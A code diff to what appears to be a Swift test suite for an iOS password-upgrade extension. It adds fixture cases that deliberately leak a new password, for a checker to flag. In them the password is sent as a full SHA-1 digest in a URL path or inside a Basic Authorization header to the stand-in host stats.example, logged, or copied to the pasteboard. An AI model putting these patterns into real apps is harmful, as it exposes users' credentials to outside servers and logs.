@@ -1,4 +1,5 @@
 import AuthenticationServices
+import CryptoKit
 import Rehearsal
 import RehearsalExplorer
 import TestBench
@@ -48,6 +49,12 @@ enum TellingHabit: String, CaseIterable {
   case asksInAddress
   /// A service that counts is told the new one.
   case countsPasswords
+  /// A service that knows of leaks is told the whole digest of the new one, in the path of an address.
+  case checksDigest
+  /// It is told the first five digits of that, which are those of many.
+  case checksBeginning
+  /// A service is told who it is, with the new one, as a web browser would write it.
+  case introducesItself
   /// NSLog is told the new one.
   case logs
   /// A service that counts is told that there was an upgrade.
@@ -63,9 +70,9 @@ enum TellingHabit: String, CaseIterable {
 
   var broken: [Violation] {
     switch self {
-    case .asksInAddress, .countsPasswords, .copies: [.disclosedPassword]
+    case .asksInAddress, .countsPasswords, .checksDigest, .introducesItself, .copies: [.disclosedPassword]
     case .logs: [.loggedPassword]
-    case .countsUpgrades, .namesUserInAddress, .logsUser, .copiesForMinute: []
+    case .countsUpgrades, .checksBeginning, .namesUserInAddress, .logsUser, .copiesForMinute: []
     }
   }
 }
@@ -110,6 +117,10 @@ private final class Telling: ASAccountAuthenticationModificationViewController {
     switch habit {
     case .countsPasswords: collect("upgraded to \(password)")
     case .countsUpgrades: collect("upgraded")
+    case .checksDigest: collect("checked", below: "/range/\(digest(of: password))")
+    case .checksBeginning: collect("checked", below: "/range/\(digest(of: password).prefix(5))")
+    case .introducesItself:
+      collect("upgraded", as: "Basic \(Data("\(user):\(password)".utf8).base64EncodedString())")
     case .logs: NSLog("%@ has %@ now", user, password)
     case .logsUser: NSLog("%@ is upgraded", user)
     case .copies: UIPasteboard.general.string = password
@@ -121,14 +132,21 @@ private final class Telling: ASAccountAuthenticationModificationViewController {
     }
   }
 
-  private func collect(_ event: String) {
-    Task { try? await send("https://stats.example/collect", ["event": event]) }
+  private func digest(of password: String) -> String {
+    Insecure.SHA1.hash(data: Data(password.utf8)).map { String(format: "%02X", $0) }.joined()
   }
 
-  private func send(_ place: String, _ values: [String: String]) async throws -> [String: String] {
+  private func collect(_ event: String, below path: String = "", as name: String? = nil) {
+    Task { try? await send("https://stats.example/collect\(path)", ["event": event], as: name) }
+  }
+
+  private func send(
+    _ place: String, _ values: [String: String], as name: String? = nil
+  ) async throws -> [String: String] {
     guard let url = URL(string: place) else { throw URLError(.badURL) }
     var request = URLRequest(url: url, timeoutInterval: 3)
     request.httpMethod = "POST"
+    if let name { request.setValue(name, forHTTPHeaderField: "Authorization") }
     request.httpBody = try JSONEncoder().encode(values)
     let (data, response) = try await URLSession.shared.data(for: request)
     let status = (response as? HTTPURLResponse)?.statusCode ?? 0
